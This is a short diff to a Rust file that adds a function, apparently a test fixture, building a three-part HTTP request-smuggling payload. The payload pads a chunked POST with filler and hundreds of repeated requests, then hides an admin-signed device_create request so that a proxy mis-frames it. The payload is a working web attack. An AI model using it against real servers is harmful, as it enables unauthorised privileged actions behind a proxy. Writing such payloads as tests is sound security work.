@@ -129,3 +129,23 @@ pub fn answers(
         })
         .collect()
 }
+
+/// A body that becomes too large in the midst of many old POSTs, in parts that a proxy sends on as chunks of its own: a
+/// length that is added behind the early answer moves the end of the second one.
+pub fn attack_in_parts() -> [Vec<u8>; 3] {
+    let call = Call::sample("device_create").signed_by_admin().form();
+    let chunk = |bytes: &[u8]| {
+        let size = format!("{:x}\r\n", bytes.len());
+        [size.as_bytes(), bytes, b"\r\n"].concat()
+    };
+    let head =
+        b"POST /billing/api/devices_get HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
+    let filler = chunk(&[&[b'a'; 59_996][..], b"\r\n\r\n"].concat());
+    let tail = "POST /x HTTP/1.0\r\n\r\n".repeat(300) + "\r\n0\r\nA: aaaaaaaaaaa";
+    let hidden = format!("\r\nPOST /billing/api/device_create?{call} HTTP/1.1\r\nHost: x\r\n\r\n");
+    [
+        [&head[..], &filler].concat(),
+        chunk(tail.as_bytes()),
+        [&chunk(hidden.as_bytes())[..], b"0\r\n\r\n"].concat(),
+    ]
+}
